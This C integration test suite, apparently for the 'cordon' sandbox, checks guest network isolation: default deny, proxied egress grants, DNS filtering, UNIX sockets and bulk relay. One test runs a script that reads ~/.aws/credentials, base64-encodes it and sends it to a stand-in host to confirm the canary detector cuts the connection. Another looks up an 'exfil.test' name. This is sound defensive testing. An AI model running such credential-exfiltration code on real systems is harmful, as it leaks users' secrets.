/* The guest's network: its own loopback, default deny, grants through the
 * sentry's proxy, the DNS answerer, AF_UNIX sockets in the VFS. Upstream
 * servers are host sockets on 127.0.0.1 run by the test itself. */
#include "tests/integration/harness.h"

#include <arpa/inet.h>
#include <errno.h>
#include <fcntl.h>
#include <netinet/in.h>
#include <pthread.h>
#include <stdint.h>
#include <stdio.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

TestSuite(net, .timeout = 90);

static const char *const VERBOSE[] = { "-v", NULL };

/* A host listener on 127.0.0.1 (an ephemeral port). */
static int host_listener(int *port)
{
    int s = socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
    struct sockaddr_in a = { .sin_family = AF_INET, .sin_addr.s_addr = htonl(INADDR_LOOPBACK) };
    socklen_t l = sizeof a;
    cr_assert(s >= 0 && bind(s, (struct sockaddr *)&a, sizeof a) == 0 && listen(s, 8) == 0 &&
              getsockname(s, (struct sockaddr *)&a, &l) == 0, "host listener: %m");
    *port = ntohs(a.sin_port);
    return s;
}

/* The upstream: answers each connection's first line with "upstream got LINE". */
struct upstream {
    int fd, served;
    pthread_t th;
};

static void *upstream_main(void *arg)
{
    struct upstream *u = arg;
    int c;
    while ((c = accept(u->fd, NULL, NULL)) >= 0) {
        char line[256], out[300];
        ssize_t n = read(c, line, sizeof line - 1);
        line[n > 0 ? n : 0] = 0;
        int len = snprintf(out, sizeof out, "upstream got %s", line);
        if (write(c, out, (size_t)len) == len)
            u->served++;
        close(c);
    }
    return NULL;
}

static int upstream_start(struct upstream *u)
{
    int port;
    u->fd = host_listener(&port);
    u->served = 0;
    pthread_create(&u->th, NULL, upstream_main, u);
    return port;
}

static void upstream_stop(struct upstream *u)
{
    shutdown(u->fd, SHUT_RDWR);
    pthread_join(u->th, NULL);
    close(u->fd);
}

static void write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "w");
    cr_assert(f, "%s: %m", path);
    fputs(text, f);
    fclose(f);
}

static void python(struct run *r, const char *const *opts, const char *script)
{
    struct run_opts o = { .cordon_opts = opts };
    run_guest(r, &o, ARGV("python3", "-c", script));
}

Test(net, guest_server_reachable_from_another_guest_process)
{
    RUN(r);
    run_sh(&r, NULL,
           "echo served > /tmp/x.txt\n"
           "python3 -m http.server 8000 --bind 127.0.0.1 --directory /tmp >/dev/null 2>&1 &\n"
           "python3 -c '\n"
           "import time, urllib.request\n"
           "for i in range(200):\n"
           "    try:\n"
           "        print(urllib.request.urlopen(\"http://127.0.0.1:8000/x.txt\").read().decode(), end=\"\"); break\n"
           "    except OSError: time.sleep(0.05)\n"
           "'\n"
           "kill $!\n");
    assert_run(&r, 0, "served\n");
}

Test(net, default_deny_is_enetunreach_with_an_audit_line)
{
    RUN(r);
    python(&r, VERBOSE,
           "import socket, errno\n"
           "for kind, go in (('tcp', lambda: socket.create_connection(('203.0.113.9', 443))),\n"
           "                 ('udp', lambda: socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b'x', ('8.8.8.8', 53)))):\n"
           "    try: go(); print(kind, 'connected')\n"
           "    except OSError as e: print(kind, errno.errorcode[e.errno])\n");
    assert_run(&r, 0, "tcp ENETUNREACH\nudp ENETUNREACH\n");
    assert_contains(&r, err, "connect denied 203.0.113.9:443");
    assert_contains(&r, err, "sendto denied 8.8.8.8:53");
}

Test(net, the_hosts_loopback_is_out_of_reach)
{
    int port;
    int l = host_listener(&port);
    char script[512];
    snprintf(script, sizeof script,
             "import socket, errno\n"
             "try: socket.create_connection(('127.0.0.1', %d)); print('reached the host')\n"
             "except OSError as e: print(errno.errorcode[e.errno])\n", port);
    RUN(r);
    python(&r, NULL, script);
    assert_run(&r, 0, "ECONNREFUSED\n");
    fcntl(l, F_SETFL, O_NONBLOCK);
    int c = accept(l, NULL, NULL);
    cr_assert(c < 0 && errno == EAGAIN, "the host listener got a connection from the guest");
    close(l);
}

Test(net, only_granted_names_resolve_and_nothing_is_forwarded)
{
    char tag[17], script[1024], want[128];
    random_tag(tag);
    snprintf(script, sizeof script,
             "import socket\n"
             "print(open('/etc/resolv.conf').read().split('nameserver ')[1].split()[0])\n"
             "for name in ('%s.exfil.test', 'api.example.com'):\n"
             "    try: print(socket.getaddrinfo(name, 443, socket.AF_INET)[0][4][0].startswith('198.18.'))\n"
             "    except socket.gaierror as e: print(e.errno == socket.EAI_NONAME)\n", tag);
    const char *const opts[] = { "-v", "--allow", "api.example.com", NULL };
    RUN(r);
    python(&r, opts, script);
    assert_run(&r, 0, "127.0.0.53\nTrue\nTrue\n");
    snprintf(want, sizeof want, "dns NXDOMAIN %s.exfil.test", tag);
    assert_contains(&r, err, want);
}

Test(net, a_grant_reaches_its_upstream_through_the_proxy)
{
    struct upstream u;
    int port = upstream_start(&u);
    char tag[17], policy[64], text[512], script[1024], want[256];
    random_tag(tag);
    snprintf(policy, sizeof policy, "/tmp/cordon-net-%s.json", tag);
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"api.test\", \"port\": 443, \"upstream\": \"127.0.0.1:%d\"},\n"
             "              {\"host\": \"192.0.2.7\", \"upstream\": \"127.0.0.1:%d\"}]}\n",
             port, port);
    write_file(policy, text);
    snprintf(script, sizeof script,
             "import socket, errno\n"
             "for host, port in (('api.test', 443), ('192.0.2.7', 8443), ('api.test', 80)):\n"
             "    try:\n"
             "        s = socket.create_connection((host, port))\n"
             "        peer = s.getpeername()\n"
             "        s.sendall(b'%s'); print(s.recv(100).decode(), peer[1], peer[0] == socket.gethostbyname(host))\n"
             "    except OSError as e: print(host, port, errno.errorcode[e.errno])\n", tag);
    const char *const opts[] = { "--policy", policy, NULL };
    RUN(r);
    python(&r, opts, script);
    unlink(policy);
    upstream_stop(&u);
    snprintf(want, sizeof want,
             "upstream got %s 443 True\nupstream got %s 8443 True\napi.test 80 ENETUNREACH\n",
             tag, tag);
    assert_run(&r, 0, want);
    cr_assert_eq(u.served, 2, "upstream served %d connections, want 2", u.served);
}

Test(net, unix_path_sockets_live_in_the_vfs)
{
    char tag[17], script[2048], host[64];
    random_tag(tag);
    snprintf(script, sizeof script,
             "import os, socket, stat, errno\n"
             "p = '/tmp/s-%s'\n"
             "srv = socket.socket(socket.AF_UNIX); srv.bind(p); srv.listen()\n"
             "print(stat.S_ISSOCK(os.stat(p).st_mode), srv.getsockname() == p)\n"
             "c = socket.socket(socket.AF_UNIX); c.connect(p); a, _ = srv.accept()\n"
             "c.sendall(b'over unix'); print(a.recv(20).decode(), c.getpeername() == p)\n"
             "open('/tmp/plain', 'w').close()\n"
             "for target in ('/tmp/missing', '/tmp/plain', p):\n"
             "    try:\n"
             "        s = socket.socket(socket.AF_UNIX)\n"
             "        (s.bind if target == p else s.connect)(target); print('ok')\n"
             "    except OSError as e: print(errno.errorcode[e.errno])\n"
             "ab = socket.socket(socket.AF_UNIX); ab.bind('\\0cordon-%s'); ab.listen()\n"
             "d = socket.socket(socket.AF_UNIX); d.connect('\\0cordon-%s'); print('abstract ok')\n",
             tag, tag, tag);
    RUN(r);
    python(&r, NULL, script);
    assert_run(&r, 0, "True True\nover unix True\nENOENT\nECONNREFUSED\nEADDRINUSE\nabstract ok\n");
    snprintf(host, sizeof host, "/tmp/s-%s", tag);
    cr_assert(access(host, F_OK) != 0, "the guest's socket appeared on the host at %s", host);
}

Test(net, socket_families)
{
    RUN(r);
    python(&r, NULL,
           "import socket, errno\n"
           "print(socket.if_nameindex())\n"
           "for fam, typ, proto in ((socket.AF_NETLINK, socket.SOCK_RAW, 9),\n"
           "                        (socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP),\n"
           "                        (socket.AF_PACKET, socket.SOCK_RAW, 0)):\n"
           "    try: socket.socket(fam, typ, proto); print('created')\n"
           "    except OSError as e: print(errno.errorcode[e.errno])\n");
    assert_run(&r, 0, "[(1, 'lo')]\nEAFNOSUPPORT\nEPERM\nEAFNOSUPPORT\n");
}

Test(net, grants_are_validated)
{
    RUN(a);
    run_cordon_cli(&a, NULL, ARGV("run", "--allow", "example.com:99999", "--", "true"));
    assert_status(&a, 2);
    assert_contains(&a, err, "--allow example.com:99999: the port must be 1..65535");
    RUN(b);
    run_cordon_cli(&b, NULL, ARGV("run", "--allow", "127.0.0.1:8080", "--", "true"));
    assert_status(&b, 2);
    assert_contains(&b, err, "loopback is the guest's own");

    char tag[17], policy[64];
    random_tag(tag);
    snprintf(policy, sizeof policy, "/tmp/cordon-net-%s.json", tag);
    write_file(policy, "{\"egress\": [{\"host\": \"a.test\", \"port\": 70000}]}");
    RUN(c);
    run_cordon_cli(&c, NULL, ARGV("run", "--policy", policy, "--", "true"));
    assert_status(&c, 125);
    assert_contains(&c, err, "egress[0].port: expected 1..65535");
    write_file(policy, "{\"egress\": [{\"host\": \"a.test\", \"tls\": \"passthrough\"}]}");
    RUN(d);
    run_cordon_cli(&d, NULL, ARGV("run", "--policy", policy, "--", "true"));
    unlink(policy);
    assert_status(&d, 125);
    assert_contains(&d, err, "egress[0].tls: expected \"intercept\"");
}

/* A raw grant's bytes are scanned too: the connection that carries a canary
 * token (here base64, split across two writes) is cut before the token's
 * bytes reach the upstream, which then reads nothing at all. */
Test(net, a_raw_grant_cuts_a_connection_carrying_a_canary_token)
{
    struct upstream u;
    int port = upstream_start(&u);
    char tag[17], policy[64], text[512];
    random_tag(tag);
    snprintf(policy, sizeof policy, "/tmp/cordon-net-%s.json", tag);
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"api.test\", \"port\": 443, \"upstream\": \"127.0.0.1:%d\"}]}\n",
             port);
    write_file(policy, text);
    const char *script =
        "import base64, os, socket, time\n"
        "cred = open(os.path.expanduser('~/.aws/credentials'), 'rb').read()\n"
        "s = socket.create_connection(('api.test', 443)); s.sendall(b'hello')\n"
        "print(s.recv(100).decode())\n"
        "b = base64.b64encode(cred)\n"
        "s = socket.create_connection(('api.test', 443))\n"
        "s.sendall(b[:len(b) // 2]); time.sleep(0.2); s.sendall(b[len(b) // 2:])\n"
        "got = b''\n"
        "while True:\n"
        "    try: d = s.recv(100)\n"
        "    except ConnectionResetError: d = b''\n"
        "    if not d: break\n"
        "    got += d\n"
        "print(repr(got[:13]), len(got) <= 13 + len(b) // 2)\n";
    const char *const opts[] = { "-v", "--policy", policy, "--canary",
                                 "/home/user/.aws/credentials", NULL };
    RUN(r);
    python(&r, opts, script);
    unlink(policy);
    upstream_stop(&u);
    /* The first half (no whole token) may pass; the rest never does. */
    assert_run(&r, 0, "upstream got hello\nb'upstream got ' True\n");
    assert_contains(&r, err, "canary token in egress");
}

/* An echo upstream: every connection gets its bytes back, until its EOF. */
static void *echo_conn(void *arg)
{
    int c = (int)(intptr_t)arg;
    char buf[65536];
    ssize_t n;
    while ((n = read(c, buf, sizeof buf)) > 0)
        for (ssize_t off = 0, w; off < n; off += w)
            if ((w = write(c, buf + off, (size_t)(n - off))) <= 0)
                goto out;
out:
    close(c);
    return NULL;
}

static void *echo_main(void *arg)
{
    struct upstream *u = arg;
    int c;
    while ((c = accept(u->fd, NULL, NULL)) >= 0) {
        pthread_t th;
        if (pthread_create(&th, NULL, echo_conn, (void *)(intptr_t)c) == 0) {
            pthread_detach(th);
            u->served++;
        } else {
            close(c);
        }
    }
    return NULL;
}

/* A raw grant's data path (io_uring): several connections at once, each
 * streaming megabytes both ways while it reads, arrive whole and in order,
 * and a half-close travels through (the echo ends after the guest's EOF). */
Test(net, a_raw_grant_relays_bulk_bytes_both_ways_intact)
{
    struct upstream u;
    int port;
    u.fd = host_listener(&port);
    u.served = 0;
    pthread_create(&u.th, NULL, echo_main, &u);
    char tag[17], policy[64], text[512];
    random_tag(tag);
    snprintf(policy, sizeof policy, "/tmp/cordon-net-%s.json", tag);
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"bulk.test\", \"port\": 7, \"upstream\": \"127.0.0.1:%d\"}]}\n",
             port);
    write_file(policy, text);
    const char *script =
        "import hashlib, os, socket, threading\n"
        "def one(k, res):\n"
        "    data = os.urandom(3 << 20)\n"
        "    s = socket.create_connection(('bulk.test', 7))\n"
        "    got = []\n"
        "    def rd():\n"
        "        while True:\n"
        "            d = s.recv(1 << 16)\n"
        "            if not d: break\n"
        "            got.append(d)\n"
        "    t = threading.Thread(target=rd); t.start()\n"
        "    for off in range(0, len(data), 100000): s.sendall(data[off:off + 100000])\n"
        "    s.shutdown(socket.SHUT_WR); t.join(); s.close()\n"
        "    res[k] = hashlib.sha256(b''.join(got)).digest() == hashlib.sha256(data).digest()\n"
        "res = {}\n"
        "ts = [threading.Thread(target=one, args=(k, res)) for k in range(4)]\n"
        "[t.start() for t in ts]; [t.join() for t in ts]\n"
        "print(sorted(res.items()))\n";
    const char *const opts[] = { "-v", "--policy", policy, NULL };
    RUN(r);
    python(&r, opts, script);
    unlink(policy);
    upstream_stop(&u);
    assert_run(&r, 0, "[(0, True), (1, True), (2, True), (3, True)]\n");
    cr_assert_eq(u.served, 4, "upstream served %d connections, want 4", u.served);
    cr_assert(!strstr(r.err, "io_uring relay failed"), "%s", r.err);
    if (strstr(r.err, "no io_uring"))
        cr_skip_test("the kernel gave no io_uring: the poll relay was tested instead");
}

/* An upstream that refuses: the guest's connect has already succeeded (it
 * reached the proxy), so it sees the stream end, and the refusal is an
 * audit event. */
Test(net, an_upstream_that_refuses_is_an_audited_end_of_stream)
{
    int port;
    int fd = host_listener(&port);
    close(fd);   /* nothing listens there now */
    char tag[17], policy[64], text[256];
    random_tag(tag);
    snprintf(policy, sizeof policy, "/tmp/cordon-net-%s.json", tag);
    snprintf(text, sizeof text,
             "{\"egress\": [{\"host\": \"gone.test\", \"port\": 7, \"upstream\": \"127.0.0.1:%d\"}]}\n",
             port);
    write_file(policy, text);
    const char *script =
        "import socket\n"
        "s = socket.create_connection(('gone.test', 7))\n"
        "try: print(repr(s.recv(10)))\n"
        "except ConnectionResetError: print('reset')\n";
    const char *const opts[] = { "-v", "--policy", policy, NULL };
    RUN(r);
    python(&r, opts, script);
    unlink(policy);
    assert_run(&r, 0, "b''\n");
    assert_contains(&r, err, "upstream failed 198.18.0.1:7");
    assert_contains(&r, err, "ECONNREFUSED");
}

/* An AF_UNIX address longer than struct sockaddr_un with no NUL in it is
 * EINVAL, as on Linux, for connect, bind and sendto alike; the sentry, which
 * copies the path out of it, survives. */
Test(net, an_oversized_unix_address_is_einval)
{
    const char *script =
        "import ctypes, errno, socket\n"
        "libc = ctypes.CDLL(None, use_errno=True)\n"
        "addr = ctypes.create_string_buffer(b'\\x01\\x00' + b'a' * 126, 128)\n"
        "for call in ('connect', 'bind', 'sendto'):\n"
        "    s = socket.socket(socket.AF_UNIX, socket.SOCK_DGRAM)\n"
        "    f = getattr(libc, call)\n"
        "    r = f(s.fileno(), b'x', 1, 0, addr, 128) if call == 'sendto' else f(s.fileno(), addr, 128)\n"
        "    print(call, r, errno.errorcode.get(ctypes.get_errno()))\n"
        "print('alive')\n";
    RUN(r);
    python(&r, NULL, script);
    assert_run(&r, 0, "connect -1 EINVAL\nbind -1 EINVAL\nsendto -1 EINVAL\nalive\n");
}
